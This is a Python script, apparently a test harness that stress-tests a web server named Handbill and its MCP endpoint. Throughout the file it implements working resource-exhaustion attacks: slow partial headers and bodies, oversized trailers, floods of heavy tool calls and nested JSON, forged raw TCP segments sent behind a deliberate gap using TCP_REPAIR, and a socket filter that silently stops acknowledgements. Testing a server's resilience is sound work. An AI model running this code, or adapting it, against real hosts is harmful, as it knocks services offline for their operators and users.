"""Clients that hold as many resources as they can. Each attack is one run of this program in the namespace of the clients.

    python3 attackers.py '{"kind": …, "to": [host, port], "from": [addresses], "connections": n, "seconds": s, "pages": [slugs]}'

Prints the fate of the connections as JSON. Each is attempted once; one that the server closes is not opened again.
"""

import ctypes
import errno
import json
import resource
import select
import socket
import struct
import sys
import time

BODY_BYTES = 128 * 1024  # the longest request body that Handbill takes
HEAD_BYTES = 30 * 1024
TRAILER_BYTES = 4000  # nearly the longest trailers
CONNECTING = 400  # at once: fewer than fit into the server's queue of connections that it has not accepted
IP_BIND_ADDRESS_NO_PORT = 24

# The kinds that send their request again after each answer, on the same connection.
REPEATING = ("calls", "meta", "creates", "retitles", "retitle", "previews", "forms", "untitled", "repeats", "names")

# The kind that reads this many answers, so that the server sends the next at once, and then acknowledges nothing more.
DEAF, HEARD = "deaf", 4
SO_ATTACH_FILTER = 26

# The kind that reads one answer, and then leaves out a byte and sends these many segments behind it.
HOLES, SEGMENTS, SEGMENT = "holes", 36, b"a"
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
DROP_ALL = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
FILTER = struct.pack("HL", 1, ctypes.addressof(DROP_ALL))

# Among the texts that take a renderer the most memory.
TEXT = "<a@b.c>" * 14_000

MCP_FIELDS = ("Content-Type: application/json", "Accept: application/json, text/event-stream", "MCP-Protocol-Version: 2025-11-25")


def tool_call(tool, arguments, meta="{}"):
    return f'{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"_meta":{meta},"name":"{tool}","arguments":{json.dumps(arguments)}}}}}'


def checksum(data):
    """The checksum of IP and TCP (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send_behind_holes(connected, raw):
    """Sends segments of one byte, each of them behind a byte that never comes. The server's kernel has to keep them."""

    def number(queue):
        connected.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        return connected.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xFFFFFFFF

    connected.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    acknowledged, next_byte = number(1), number(2)
    connected.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, -1)
    (source, port), (to, to_port) = connected.getsockname(), connected.getpeername()
    addresses = socket.inet_aton(source) + socket.inet_aton(to)
    for segment in range(SEGMENTS):
        at = (next_byte + 1 + 2 * segment) & 0xFFFFFFFF
        tcp = struct.pack("!HHIIBBHHH", port, to_port, at, acknowledged, 5 << 4, 0x10, 1000, 0, 0)
        padded = addresses + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp) + 1) + tcp + SEGMENT + b"\0"
        tcp = tcp[:16] + struct.pack("!H", checksum(padded)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 41, segment, 0, 64, socket.IPPROTO_TCP, 0) + addresses
        raw.sendto(ip + tcp + SEGMENT, (to, 0))


def request(kind, host, page):
    """The request that a connection of this kind sends."""
    def head(method, path, *fields):
        return "\r\n".join([f"{method} {path} HTTP/1.1", f"Host: {host}", *fields, "", ""]).encode()

    def whole(method, path, body, *fields):
        return head(method, path, *fields, f"Content-Length: {len(body)}") + body.encode()

    if kind == "heads":
        begun = head("GET", "/", "X-Long: ")[:-4]
        return begun + b"a" * (HEAD_BYTES - len(begun))
    if kind == "bodies":
        begun = head("POST", "/api/pages", "Content-Type: application/json", f"Content-Length: {BODY_BYTES}")
        return begun + b'{"title": "a", "content": "' + b"a" * (BODY_BYTES - 2048 - 27)
    if kind == "trailers":
        begun = head("POST", "/api/pages", "Content-Type: application/json", "Transfer-Encoding: chunked")
        return begun + b"1\r\n{\r\n0\r\nX-Long: " + b"a" * (TRAILER_BYTES - 8)
    if kind in ("mcp", "calls"):
        return whole("POST", "/mcp", tool_call("get_page", {"slug": page}), *MCP_FIELDS)
    if kind == "parts":
        return whole("POST", "/mcp", tool_call("get_page", {"slug": page, "max_chars": 33_500}), *MCP_FIELDS)
    if kind == "meta":
        # In a tree of the whole text each of these objects would take 600 bytes.
        nested = ",".join(['{"":{"":0}}'] * 10_300)
        return whole("POST", "/mcp", tool_call("get_page", {"slug": page}, f'{{"x":[{nested}]}}'), *MCP_FIELDS)
    if kind == "creates":
        return whole("POST", "/mcp", tool_call("create_page", {"title": "a", "content": TEXT}), *MCP_FIELDS)
    if kind == "repeats":
        key = "hbk_0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefg"
        body = json.dumps({"title": "a", "content": TEXT, "edit_key": key})
        return whole("POST", "/api/pages", body, "Content-Type: application/json")
    if kind == "names":
        return whole("POST", "/api/pages", '{"' + "a" * (BODY_BYTES - 6) + '":1}', "Content-Type: application/json")
    if kind in ("retitles", "retitle"):
        slug, key = page.split()
        return whole("PATCH", f"/api/pages/{slug}", '{"title": "b"}', "Content-Type: application/json", f"Authorization: Bearer {key}")
    if kind == "previews":
        return whole("POST", "/?action=preview", TEXT, "Content-Type: text/markdown", "Accept: application/json")
    if kind == "untitled":
        return whole("POST", "/", TEXT, "Content-Type: text/markdown")
    if kind == "forms":
        fields = {"content": TEXT, "action": "preview"}.items()
        parts = [f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n' for name, value in fields]
        return whole("POST", "/", "".join(parts) + "--b--\r\n", "Content-Type: multipart/form-data; boundary=b", "Accept: text/html")
    return head("GET", {"idle": "/robots.txt", HOLES: "/robots.txt", DEAF: f"/{page}.md", "html": f"/{page}", "json": f"/api/pages/{page}"}[kind])


class Connection:
    def __init__(self, attack, source, request):
        self.attack, self.request, self.left = attack, request, request
        self.state, self.got, self.expected = "connecting", b"", None
        self.answers = 0
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        if attack.refuses_to_read:
            # The kernel's smallest buffer, so that the answer stays in the server.
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        self.socket.bind((source, 0))
        if self.socket.connect_ex(attack.to) not in (0, errno.EINPROGRESS):
            self.end("refused")

    def write(self):
        if self.state == "connecting":
            if self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                return self.end("refused")
            self.state = "sending"
        try:
            while self.left:
                self.left = self.left[self.socket.send(self.left) :]
        except BlockingIOError:
            return None
        except OSError:
            return self.end("closed")
        self.state = "holding"
        return None

    def read(self):
        try:
            while data := self.socket.recv(256 * 1024):
                self.attack.take(self, data)
        except BlockingIOError:
            return
        except OSError:
            pass
        self.end("closed")

    def end(self, how):
        self.state = how
        self.socket.close()

    def status_at_the_end(self):
        """The status of an answer that was not read yet."""
        try:
            self.socket.setblocking(False)
            return self.socket.recv(12, socket.MSG_PEEK)[9:12].decode() or None
        except OSError:
            return None


class Attack:
    def __init__(self, kind, to, sources, connections, seconds, pages):
        self.kind, self.to, self.sources, self.connections, self.seconds = kind, tuple(to), sources, connections, seconds
        self.requests = [memoryview(request(kind, f"{to[0]}:{to[1]}", page)) for page in pages]
        self.refuses_to_read = kind in ("html", "json", "mcp", "parts")
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) if kind == HOLES else None
        self.statuses, self.answers, self.held = {}, 0, 0

    def run(self):
        poll, by_number, everyone = select.epoll(), {}, []
        end = time.monotonic() + self.seconds
        watched = select.EPOLLOUT | select.EPOLLRDHUP | select.EPOLLET | (0 if self.refuses_to_read else select.EPOLLIN)
        counted = 0.0
        while time.monotonic() < end:
            connecting = sum(1 for one in by_number.values() if one.state == "connecting") if len(everyone) < self.connections else 0
            while len(everyone) < self.connections and connecting < CONNECTING:
                number = len(everyone)
                one = Connection(self, self.sources[number % len(self.sources)], self.requests[number % len(self.requests)])
                everyone.append(one)
                if one.state == "connecting":
                    by_number[one.socket.fileno()] = one
                    poll.register(one.socket, watched)
                    connecting += 1
            for number, events in poll.poll(0.05, 1024):
                one = by_number[number]
                if events & select.EPOLLOUT and one.state in ("connecting", "sending"):
                    one.write()
                if events & select.EPOLLIN and one.state in ("sending", "holding"):
                    one.read()
                if events & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR) and one.state in ("connecting", "sending", "holding"):
                    if self.refuses_to_read:
                        self.count(one.status_at_the_end())
                    one.end("closed")
                if one.state in ("closed", "refused"):
                    del by_number[number]
            if time.monotonic() - counted > 0.2:
                counted = time.monotonic()
                self.held = max(self.held, sum(1 for one in by_number.values() if one.state == "holding"))
        ended = {}
        for one in everyone:
            ended[one.state] = ended.get(one.state, 0) + 1
            if self.refuses_to_read and one.state == "holding":
                self.count(one.status_at_the_end())
        return {"attempted": len(everyone), "held": self.held, "states": ended, "statuses": self.statuses, "answers": self.answers}

    def count(self, status):
        if status:
            self.statuses[status] = self.statuses.get(status, 0) + 1

    def take(self, one, data):
        """Takes a part of an answer. If the attack repeats, a complete answer leads to the next request."""
        if self.kind not in (*REPEATING, DEAF):
            if not one.got:
                one.got = data[:12]
                self.count(data[9:12].decode("latin-1"))
                if self.raw:
                    send_behind_holes(one.socket, self.raw)
            return
        if one.expected is None:
            one.got += data
            head, found, rest = one.got.partition(b"\r\n\r\n")
            if not found:
                return
            fields = dict(line.lower().split(b": ", 1) for line in head.split(b"\r\n")[1:])
            one.expected, data = int(fields.get(b"content-length", 0)), rest
            status = head[9:12].decode("latin-1")
            # An overloaded tool answers 200, with an error in its result.
            self.count("busy" if b'"isError":true' in rest else status)
        one.expected -= len(data)
        if one.expected <= 0:
            self.answers += 1
            one.answers += 1
            if self.kind == DEAF and one.answers == HEARD:
                one.socket.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, FILTER)
            one.got, one.expected, one.left, one.state = b"", None, one.request, "sending"
            one.write()


if __name__ == "__main__":
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asked = json.loads(sys.argv[1])
    attack = Attack(asked["kind"], asked["to"], asked["from"], asked["connections"], asked["seconds"], asked["pages"])
    print(json.dumps(attack.run()))
